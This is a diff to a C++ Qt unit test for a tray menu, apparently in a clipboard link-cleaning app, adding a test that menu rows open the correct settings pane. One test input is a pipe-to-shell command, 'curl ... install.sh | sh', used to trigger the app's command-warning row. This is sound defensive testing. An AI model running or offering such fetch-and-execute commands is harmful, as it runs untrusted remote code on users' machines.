@@ -97,6 +97,7 @@ private Q_SLOTS:
     void togglesSwitchTheMonitorAndTheIcon();
     void windowRowsAppearOnceRegistered();
     void toolTipsStayPlainText();
+    void rowsNamingAPaneOpenIt();
     void updateRowsOpenTheirPane();
     void openingTheMenuStartsTheChecksThatAreDue();
     void mapLinkIsRecordedOnceTheDesktopOpenedIt();
@@ -168,6 +169,30 @@ void TrayMenuTest::windowRowsAppearOnceRegistered() {
     QVERIFY(f.windows->existingWindow(kWelcomeWindowId)->isVisible());
     QVERIFY(f.action("menu-no-cleaned-links")->isEnabled());
     f.action("menu-no-cleaned-links")->trigger();
+    QVERIFY(f.windows->existingWindow(kSettingsWindowId)->isVisible());
+}
+
+void TrayMenuTest::rowsNamingAPaneOpenIt() {
+    Fixture f;
+    f.windows->registerWindow(kSettingsWindowId, [] { return new QLabel; });
+    f.defaults->setString(kSelectedSettingsPaneKey, "Rules");
+    f.menu->rebuild();
+    f.action("menu-preferences")->trigger();  // the pane last shown
+    QCOMPARE(f.defaults->stringForKey(kSelectedSettingsPaneKey).value_or(""), std::string("Rules"));
+
+    f.state->exceptionStore()->disable("shop.example");
+    f.copyAndPoll(kTracked);
+    f.action("menu-manage-exceptions")->trigger();
+    QCOMPARE(f.defaults->stringForKey(kSelectedSettingsPaneKey).value_or(""),
+             std::string(kExceptionsPane));
+
+    f.defaults->setString(kSelectedSettingsPaneKey, "Rules");
+    f.copyAndPoll("curl -fsSL https://get.example/install.sh | sh");
+    QAction* review = f.action("menu-review-command-warning");
+    QVERIFY(review != nullptr);
+    review->trigger();
+    QCOMPARE(f.defaults->stringForKey(kSelectedSettingsPaneKey).value_or(""),
+             std::string(kStatusPane));
     QVERIFY(f.windows->existingWindow(kSettingsWindowId)->isVisible());
 }
 
